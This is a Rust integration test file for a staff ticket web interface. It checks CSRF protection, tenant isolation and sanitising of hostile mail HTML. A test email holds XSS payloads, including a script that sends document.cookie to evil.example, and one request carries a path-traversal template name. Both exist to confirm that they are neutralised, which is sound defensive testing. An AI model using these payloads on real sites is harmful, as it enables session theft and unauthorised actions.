//! The staff pages over real HTTP with a browser session (login link): my
//! queues, a queue's tickets, a ticket whose mail HTML is hostile and renders
//! inert, the take and resolve forms with their CSRF token, and another LV's
//! ticket answering 404.

use crate::intake::drain;
use logbuch_tests::oidc;
use logbuch_tests::{Backend, TestApp, both, spawn_app};
use reqwest::StatusCode;

pub(crate) const HOSTILE: &str = "From: Mallory <mallory@example.org>\r\nTo: mitglieder-by@piratenpartei.de\r\n\
Subject: Rechnung\r\nMessage-ID: <hostile1@x>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Bitte zahlen.\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<p onmouseover=\"steal()\">Bitte <b>sofort</b> zahlen.</p><script>document.location='https://evil.example/'+document.cookie</script>\
<img src=\"https://tracker.example/pixel.gif\" onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">Rechnung</a>\
<iframe src=\"https://evil.example/\"></iframe>\r\n--b--\r\n";

pub(crate) async fn browser_for(t: &TestApp, email: &str) -> (reqwest::Client, String) {
    let b = oidc::browser();
    let path = logbuch_core::admin::login_link(&t.app, email).await.unwrap();
    let r = b.get(format!("{}{path}", t.url)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let csrf: serde_json::Value = b.get(format!("{}/auth/session", t.url)).send().await.unwrap().json().await.unwrap();
    (b, csrf["csrf_token"].as_str().unwrap().to_owned())
}

pub(crate) async fn html(b: &reqwest::Client, url: String) -> (StatusCode, String, String) {
    let r = b.get(url).send().await.unwrap();
    let csp = r.headers().get("content-security-policy").map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    (r.status(), csp, r.text().await.unwrap())
}

async fn staff_pages_work_and_mail_html_is_inert(backend: Backend) {
    let t = spawn_app(backend).await;
    t.person("alice@by.example", &[("helper", Some("by"), None)]).await;
    t.person("dave@nowhere.example", &[]).await;
    let officer = t.person("fo@bund.example", &[("federal_officer", None, None)]).await;
    let he = t.create_ticket(&officer, "he", "mitglieder", "Hessen intern").await;
    t.app.ingest_raw("test", HOSTILE.as_bytes()).await.unwrap();
    drain(&t).await;

    let (alice, csrf) = browser_for(&t, "alice@by.example").await;
    let (s, csp, home) = html(&alice, format!("{}/", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    // One script, the keyboard shortcuts, inline and allowed by its hash only.
    assert!(csp.contains("default-src 'none'") && !csp.contains("unsafe-eval"), "{csp}");
    assert_eq!(home.matches("<script").count(), 1, "{home}");
    let script = home.split("<script>").nth(1).and_then(|s| s.split("</script>").next()).unwrap();
    let hash = {
        use base64::Engine;
        use sha2::Digest;
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(script.as_bytes()))
    };
    assert!(csp.contains(&format!("script-src 'sha256-{hash}';")), "the page's script is the allowed one: {csp}");
    assert!(home.contains("Meine Queues") && home.contains("/ui/tickets?tenant=by&amp;queue=mitglieder"), "{home}");
    assert!(!home.contains("tenant=he"), "no HE queue for a BY helper");

    let (s, _, list) = html(&alice, format!("{}/ui/tickets?tenant=by&queue=mitglieder", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    let n: i64 = list
        .split("href=\"/ui/tickets/")
        .skip(1)
        .find_map(|r| r.split('"').next().and_then(|n| n.parse().ok()))
        .unwrap_or_else(|| panic!("no ticket link: {list}"));
    assert!(list.contains("Rechnung"), "{list}");

    let (s, _, page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(page.contains("Bitte <b>sofort</b> zahlen."), "the mail's text and formatting stay: {page}");
    for bad in ["onmouseover", "onerror", "javascript:", "<img", "<iframe", "evil.example", "tracker.example"] {
        assert!(!page.contains(bad), "{bad} reached the page: {page}");
    }
    // The only script is Logbuch's own (the keyboard shortcuts), not the mail's.
    assert_eq!(page.matches("<script").count(), 1, "{page}");
    assert!(page.contains("<script>// Logbuch keyboard shortcuts") && !page.contains("document.cookie"), "{page}");

    let (s, _, _) = html(&alice, format!("{}/ui/tickets/{he}", t.url)).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "another LV's ticket does not exist");

    let take = format!("{}/ui/tickets/{n}/take", t.url);
    let r = alice.post(&take).form(&[("csrf_token", "")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN, "a form without the CSRF token is refused");
    let r = alice.post(&take).form(&[("csrf_token", csrf.as_str())]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert!(page.contains("id=\"besitzer\">alice@by.example<"), "taken: {page}");
    let r = alice
        .post(format!("{}/ui/tickets/{n}/resolve", t.url))
        .form(&[("csrf_token", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert!(page.contains("id=\"status\">erledigt<"), "resolved: {page}");

    // The federal officer hands a triage ticket to BY; alice then has it.
    let triage = t.create_ticket(&officer, "bund", "triage", "Frage zur Mitgliedschaft").await;
    let (fo, fo_csrf) = browser_for(&t, "fo@bund.example").await;
    let (_, _, page) = html(&fo, format!("{}/ui/tickets/{triage}", t.url)).await;
    assert!(page.contains("id=\"uebergeben\"") && page.contains("<option value=\"by\">"), "{page}");
    let (_, _, alice_page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert!(
        alice_page.contains("<option value=\"bund\">") && !alice_page.contains("<option value=\"he\">"),
        "helpers only give tickets back to the Bund"
    );
    let over = format!("{}/ui/tickets/{triage}/handover", t.url);
    let r = fo.post(&over).form(&[("csrf_token", ""), ("tenant", "by")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = fo.post(&over).form(&[("csrf_token", fo_csrf.as_str()), ("tenant", "by")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, _, list) = html(&alice, format!("{}/ui/tickets?tenant=by&queue=allgemein", t.url)).await;
    assert!(list.contains("Frage zur Mitgliedschaft"), "in BY's default queue: {list}");

    // Search finds the resolved ticket, and nothing of HE for a BY helper.
    let (s, _, found) = html(&alice, format!("{}/ui/search?q=Rechnung", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(found.contains(&format!("/ui/tickets/{n}")), "{found}");
    let (_, _, none) = html(&alice, format!("{}/ui/search?q=Hessen", t.url)).await;
    assert!(none.contains("id=\"keine-treffer\""), "{none}");
    let (s, _, _) = html(&alice, format!("{}/ui/search?q=%2A%2A", t.url)).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "a search without a word");

    let (dave, _) = browser_for(&t, "dave@nowhere.example").await;
    let (_, _, home) = html(&dave, format!("{}/", t.url)).await;
    assert!(home.contains("id=\"keine-queues\""), "{home}");

    let anonymous = oidc::browser();
    let (s, _, login) = html(&anonymous, format!("{}/", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(login.contains("Anmelden"), "{login}");
    let r = anonymous.get(format!("{}/ui/tickets/{n}", t.url)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "pages send strangers to the login");
}

pub(crate) async fn form(b: &reqwest::Client, url: String, fields: &[(&str, &str)]) -> (StatusCode, String) {
    let r = b.post(url).form(fields).send().await.unwrap();
    let status = r.status();
    let location = r.headers().get("location").map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    let text = r.text().await.unwrap();
    (status, if status == StatusCode::SEE_OTHER { location } else { text })
}

/// Every action on the ticket page through its form, the triage list, my
/// tickets, tenant administration of templates, German error pages, and
/// another LV's helper getting 404 from every new address.
async fn staff_work_a_ticket_through_the_forms(backend: Backend) {
    let t = spawn_app(backend).await;
    t.person("alice@by.example", &[("helper", Some("by"), None)]).await;
    t.person("bert@by.example", &[("helper", Some("by"), None)]).await;
    t.person("erna@by.example", &[("tenant_admin", Some("by"), None)]).await;
    t.person("helga@he.example", &[("helper", Some("he"), None)]).await;
    let officer = t.person("fo@bund.example", &[("federal_officer", None, None)]).await;
    let n = t.create_ticket(&officer, "by", "mitglieder", "Adressänderung Erika").await;
    let base = format!("{}/ui/tickets/{n}", t.url);
    let (alice, csrf) = browser_for(&t, "alice@by.example").await;
    let csrf = csrf.as_str();

    let (s, _, page) = html(&alice, base.clone()).await;
    assert_eq!(s, StatusCode::OK);
    assert!(page.contains("<option value=\"bert@by.example\">bert@by.example</option>"), "assignable: {page}");
    assert!(!page.contains("helga@he.example"), "no HE helper to assign: {page}");
    assert!(!page.contains("<option value=\"he\">"), "helpers hand nothing to other LVs");

    // Assign to bert, then urgent and waiting, then watchers.
    let (s, to) = form(&alice, format!("{base}/assign"), &[("owner", "bert@by.example")]).await;
    assert_eq!(s, StatusCode::FORBIDDEN, "no CSRF token: {to}");
    let (s, to) = form(&alice, format!("{base}/assign"), &[("csrf_token", csrf), ("owner", "bert@by.example")]).await;
    assert_eq!((s, to.as_str()), (StatusCode::SEE_OTHER, format!("/ui/tickets/{n}").as_str()));
    let (s, _) =
        form(&alice, format!("{base}/change"), &[("csrf_token", csrf), ("priority", "urgent"), ("status", "waiting")])
            .await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (s, _) = form(&alice, format!("{base}/watchers"), &[("csrf_token", csrf), ("email", "erna@by.example")]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, base.clone()).await;
    assert!(page.contains("id=\"besitzer\">bert@by.example<"), "{page}");
    assert!(page.contains("id=\"prioritaet\">dringend<") && page.contains("id=\"status\">wartet<"), "{page}");
    assert!(page.contains("<input type=\"hidden\" name=\"email\" value=\"erna@by.example\">"), "watcher: {page}");
    let (s, _) =
        form(&alice, format!("{base}/watchers/remove"), &[("csrf_token", csrf), ("email", "erna@by.example")]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, base.clone()).await;
    assert!(page.contains("Niemand beobachtet"), "{page}");

    // A canned response fills the reply field; the reply and a note land on the ticket.
    let (_, _, page) = html(&alice, format!("{base}?vorlage=canned.austritt-bestaetigung")).await;
    let filled = page.split("id=\"antwort-text\"").nth(1).and_then(|r| r.split("</textarea>").next()).unwrap();
    assert!(filled.contains("Austrittserklärung erhalten"), "the canned text, rendered: {filled}");
    let (s, _) = form(&alice, format!("{base}/reply"), &[("csrf_token", csrf), ("body", "Erledigen wir gern.")]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (s, _) =
        form(&alice, format!("{base}/note"), &[("csrf_token", csrf), ("body", "Intern: Rückruf morgen")]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, base.clone()).await;
    assert!(page.contains("Erledigen wir gern.") && page.contains("Intern: Rückruf morgen"), "{page}");
    assert!(page.contains("class=\"message note\""), "the note looks like one: {page}");

    // Bad input: a German page with the reason, nothing changed.
    let r = alice.post(format!("{base}/note")).form(&[("csrf_token", csrf), ("body", "  ")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/html"));
    let body = r.text().await.unwrap();
    assert!(body.contains("id=\"fehler\"") && body.contains("nicht leer"), "{body}");
    let (s, _, body) = html(&alice, format!("{}/ui/gibtsnicht", t.url)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    assert!(body.contains("Nicht gefunden"), "{body}");

    // Move to another BY queue, resolve, reopen.
    let (s, _) = form(&alice, format!("{base}/move"), &[("csrf_token", csrf), ("queue", "allgemein")]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (s, _) = form(&alice, format!("{base}/resolve"), &[("csrf_token", csrf)]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, base.clone()).await;
    assert!(page.contains("id=\"status\">erledigt<") && page.contains("id=\"wieder-oeffnen\""), "{page}");
    let (s, _) = form(&alice, format!("{base}/reopen"), &[("csrf_token", csrf)]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, base.clone()).await;
    assert!(page.contains("id=\"status\">in Arbeit<"), "{page}");
    assert!(
        page.contains("Priorität: normal → dringend") && page.contains("Queue: by/mitglieder → by/allgemein"),
        "{page}"
    );

    // bert finds it under his tickets; the start page counts it.
    let (bert, _) = browser_for(&t, "bert@by.example").await;
    let (_, _, mine) = html(&bert, format!("{}/ui/tickets?mine=true", t.url)).await;
    assert!(mine.contains("Adressänderung Erika"), "{mine}");
    let (_, _, mine) = html(&alice, format!("{}/ui/tickets?mine=true", t.url)).await;
    assert!(mine.contains("id=\"keine-tickets\""), "{mine}");
    let (_, _, home) = html(&bert, format!("{}/", t.url)).await;
    let row = home.split("tenant=by&amp;queue=allgemein").nth(1).and_then(|r| r.split("</tr>").next()).unwrap();
    assert!(row.contains("<td class=\"num\">0</td><td class=\"num\">1</td>"), "new 0, in progress 1: {row}");

    // Another LV's helper: 404 from the page and from every form.
    let (helga, helga_csrf) = browser_for(&t, "helga@he.example").await;
    let hc = helga_csrf.as_str();
    let (s, _, body) = html(&helga, base.clone()).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    assert!(body.contains("id=\"fehler\""), "a German page: {body}");
    for (action, fields) in [
        ("take", vec![("csrf_token", hc)]),
        ("assign", vec![("csrf_token", hc), ("owner", "")]),
        ("watchers", vec![("csrf_token", hc), ("email", "helga@he.example")]),
        ("watchers/remove", vec![("csrf_token", hc), ("email", "helga@he.example")]),
        ("change", vec![("csrf_token", hc), ("priority", "low")]),
        ("move", vec![("csrf_token", hc), ("queue", "allgemein")]),
        ("note", vec![("csrf_token", hc), ("body", "x")]),
        ("reply", vec![("csrf_token", hc), ("body", "x")]),
        ("resolve", vec![("csrf_token", hc)]),
        ("reopen", vec![("csrf_token", hc)]),
        ("handover", vec![("csrf_token", hc), ("tenant", "he")]),
    ] {
        let (s, body) = form(&helga, format!("{base}/{action}"), &fields).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{action}: {body}");
    }
    let (s, _, _) = html(&helga, format!("{}/ui/verwaltung/by", t.url)).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "BY's administration does not exist for HE");
    let (s, _, _) = html(&helga, format!("{}/ui/verwaltung/by/vorlagen/canned.austritt-bestaetigung", t.url)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = form(
        &helga,
        format!("{}/ui/verwaltung/by/vorlagen/canned.x", t.url),
        &[("csrf_token", hc), ("subject", "s"), ("body", "b")],
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND);

    // Triage: for federal officers only, each ticket with a hand-over form.
    let triage = t.create_ticket(&officer, "bund", "triage", "Wohin damit?").await;
    let (fo, fo_csrf) = browser_for(&t, "fo@bund.example").await;
    let (s, _, list) = html(&fo, format!("{}/ui/triage", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(list.contains(&format!("id=\"uebergeben-{triage}\"")), "{list}");
    let (s, to) = form(
        &fo,
        format!("{}/ui/tickets/{triage}/handover", t.url),
        &[("csrf_token", fo_csrf.as_str()), ("tenant", "by"), ("from", "triage")],
    )
    .await;
    assert_eq!((s, to.as_str()), (StatusCode::SEE_OTHER, "/ui/triage"));
    let (_, _, list) = html(&fo, format!("{}/ui/triage", t.url)).await;
    assert!(!list.contains("Wohin damit?"), "handed over: {list}");
    let (s, _, _) = html(&alice, format!("{}/ui/triage", t.url)).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "helpers have no triage");

    // Tenant administration: queues, and a canned response checked before it is saved.
    let (erna, erna_csrf) = browser_for(&t, "erna@by.example").await;
    let ec = erna_csrf.as_str();
    let (s, _, admin) = html(&erna, format!("{}/ui/verwaltung/by", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(admin.contains("mitglieder") && admin.contains("canned.austritt-bestaetigung"), "{admin}");
    let (s, _, _) = html(&alice, format!("{}/ui/verwaltung/by", t.url)).await;
    assert_eq!(s, StatusCode::FORBIDDEN, "helpers do not administer");
    let (s, _, edit) = html(&erna, format!("{}/ui/verwaltung/by/vorlagen/neu?neu=rueckruf", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(edit.contains("action=\"/ui/verwaltung/by/vorlagen/canned.rueckruf\""), "{edit}");
    let save = format!("{}/ui/verwaltung/by/vorlagen/canned.rueckruf", t.url);
    let broken = "Wir rufen an wegen {{ ticket.nummer }}";
    let (s, body) = form(&erna, save.clone(), &[("csrf_token", ec), ("subject", "Rückruf"), ("body", broken)]).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("Zeile 1") && body.contains("{{ ticket.nummer }}"), "reason and text kept: {body}");
    let good = "Wir rufen Sie zu #{{ ticket.number }} zurück.";
    let (s, _) = form(&erna, save.clone(), &[("csrf_token", ec), ("subject", "Rückruf"), ("body", good)]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, admin) = html(&erna, format!("{}/ui/verwaltung/by", t.url)).await;
    assert!(admin.contains("canned.rueckruf") && admin.contains("eigene Fassung (by)"), "{admin}");
    let (_, _, page) = html(&alice, format!("{base}?vorlage=canned.rueckruf")).await;
    assert!(page.contains(&format!("Wir rufen Sie zu #{n} zurück.")), "rendered for the ticket: {page}");
    let (s, _) = form(&erna, format!("{save}/loeschen"), &[("csrf_token", ec)]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, _, admin) = html(&erna, format!("{}/ui/verwaltung/by", t.url)).await;
    assert!(!admin.contains("canned.rueckruf"), "{admin}");
    // A name that would bend the form's address elsewhere is no template.
    let sneaky = format!("{}/ui/verwaltung/by/vorlagen/neu?neu=x%2F..%2F..%2F..%2F..%2Ftickets%2F{n}%2Fresolve", t.url);
    let (s, _, page) = html(&erna, sneaky).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{page}");
    let (s, _, _) = html(&erna, format!("{}/ui/verwaltung/by/vorlagen/canned.Gro%C3%9F", t.url)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);

    // A helper gives a ticket back to the Bund: it leaves her reach, the page sends her home.
    let (s, to) = form(&alice, format!("{base}/handover"), &[("csrf_token", csrf), ("tenant", "bund")]).await;
    assert_eq!((s, to.as_str()), (StatusCode::SEE_OTHER, "/"));
    let (s, _, _) = html(&alice, base.clone()).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "back at the Bund");
}

both!(staff_pages_work_and_mail_html_is_inert, staff_work_a_ticket_through_the_forms);
